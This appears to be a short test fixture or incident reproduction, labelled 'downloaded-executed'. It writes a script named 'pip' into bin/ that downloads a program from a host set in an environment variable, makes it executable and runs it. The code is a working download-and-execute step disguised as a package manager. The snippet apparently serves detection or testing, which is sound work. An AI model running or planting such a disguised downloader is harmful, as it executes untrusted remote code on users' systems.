# incident: a script that calls itself pip fetches a program
# finding: downloaded-executed
# needs: python3
mkdir -p bin && cat > bin/pip <<'PY'
import os, urllib.request
urllib.request.urlretrieve(f"http://{os.environ['DROP']}/program", "tool"); os.chmod("tool", 0o755)
PY
python3 bin/pip && ./tool
